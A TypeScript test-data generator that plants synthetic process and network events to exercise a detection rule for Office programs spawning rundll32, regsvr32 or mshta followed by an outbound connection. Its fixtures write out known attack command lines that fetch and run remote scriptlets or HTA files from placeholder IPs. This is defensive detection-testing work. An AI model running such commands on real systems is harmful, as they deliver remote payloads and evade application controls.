/**
 * Planted events for the sequence rule: an Office program starts a binary proxy (rundll32,
 * regsvr32, mshta) that then connects out, both events joined by `host.id` and
 * `process.entity_id` within one minute.
 *
 * The planted processes never join the background pool, so no background event shares their
 * entity id and each true positive completes exactly one sequence.
 */

import type { Stamp } from './events.js';
import type { Host, Proc } from './hosts.js';
import { processLine, networkLine, type PlantKit, type RulePlants, type Step } from './plant-kit.js';
import { escapeAll } from './text.js';

const SYS32 = 'C:\\Windows\\System32\\';
const OFFICE = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\';

interface Chain {
  readonly office: 'WINWORD.EXE' | 'EXCEL.EXE' | 'OUTLOOK.EXE';
  readonly child: 'rundll32.exe' | 'regsvr32.exe' | 'mshta.exe';
  readonly args: (home: string) => string[];
  readonly port: number;
}

const CHAINS: Record<string, Chain> = {
  word: { office: 'WINWORD.EXE', child: 'rundll32.exe', port: 443,
    args: (h) => [SYS32 + 'rundll32.exe', `${h}\\AppData\\Local\\Temp\\inv0426.dll,DllRegisterServer`] },
  excel: { office: 'EXCEL.EXE', child: 'regsvr32.exe', port: 80,
    args: () => ['regsvr32.exe', '/s', '/n', '/u', '/i:http://198.51.100.77/pay.sct', 'scrobj.dll'] },
  outlook: { office: 'OUTLOOK.EXE', child: 'mshta.exe', port: 8080,
    args: () => [SYS32 + 'mshta.exe', 'http://203.0.113.45:8080/invoice.hta'] },
};

interface Actors {
  readonly host: Host;
  readonly child: Proc;
  readonly c2: string;
}

function actors(kit: PlantKit, chain: Chain): Actors {
  const host = kit.host('windows');
  const user = kit.user(host);
  const office = kit.proc(host, { name: chain.office, executable: OFFICE + chain.office,
    args: [OFFICE + chain.office], user, signer: 'Microsoft Corporation' });
  const child = kit.proc(host, { name: chain.child, executable: SYS32 + chain.child,
    args: chain.args(user.home), user, parent: office });
  return { host, child, c2: `185.${kit.rng.range(100, 220)}.${kit.rng.range(0, 255)}.${kit.rng.range(1, 254)}` };
}

function connect(a: Actors, who: Proc, port: number, at: Stamp, eph: number): string {
  return networkLine(a.host, at, who, 'connection_attempted', 'egress', 'tcp',
    { ip: a.host.ip, port: eph }, { ip: a.c2, port });
}

function chainSteps(kit: PlantKit, maxGap: number, chain: Chain, opts: {
  jumpMs?: number; port?: number; otherProcess?: boolean; reversed?: boolean; escape?: [string, number];
} = {}): Step[] {
  const a = actors(kit, chain);
  const eph = kit.rng.range(49152, 65535);
  const who = opts.otherProcess
    ? kit.proc(a.host, { name: chain.child, executable: SYS32 + chain.child, args: chain.args(a.child.user.home),
      user: a.child.user, parent: a.child.parent })
    : a.child;
  const esc = (line: string): string => (opts.escape ? escapeAll(line, opts.escape[0], opts.escape[1]) : line);
  const start = (at: Stamp): string => esc(processLine(a.host, at, a.child, 'start'));
  const net = (at: Stamp): string => esc(connect(a, who, opts.port ?? chain.port, at, eph));
  const jumpMs = opts.jumpMs ?? kit.rng.range(200, 8000);
  const gap = kit.gap(maxGap);
  return opts.reversed
    ? [{ gap: 0, jumpMs: 0, emit: net }, { gap, jumpMs, emit: start }]
    : [{ gap: 0, jumpMs: 0, emit: start }, { gap, jumpMs, emit: net }];
}

/** The Office child process followed by an outbound connection. */
export const OFFICE_LOLBIN_BEACON: RulePlants = {
  rule: 'officeLolbinBeacon',
  matches: [
    { name: 'Word, rundll32, HTTPS', build: (kit, g) => chainSteps(kit, g, CHAINS.word as Chain) },
    { name: 'Excel, regsvr32, HTTP', build: (kit, g) => chainSteps(kit, g, CHAINS.excel as Chain) },
    { name: 'Outlook, mshta, 8080, escaped name', escaped: true,
      build: (kit, g) => chainSteps(kit, g, CHAINS.outlook as Chain, { escape: ['mshta.exe', 4] }) },
  ],
  misses: [
    { name: 'connection after the maxspan',
      build: (kit, g) => chainSteps(kit, g, CHAINS.word as Chain, { jumpMs: kit.rng.range(75_000, 150_000) }) },
    { name: 'connection by another process',
      build: (kit, g) => chainSteps(kit, g, CHAINS.excel as Chain, { otherProcess: true }) },
    { name: 'connection before the process start',
      build: (kit, g) => chainSteps(kit, g, CHAINS.word as Chain, { reversed: true }) },
    { name: 'connection to an unlisted port',
      build: (kit, g) => chainSteps(kit, g, CHAINS.outlook as Chain, { port: 445 }) },
  ],
};
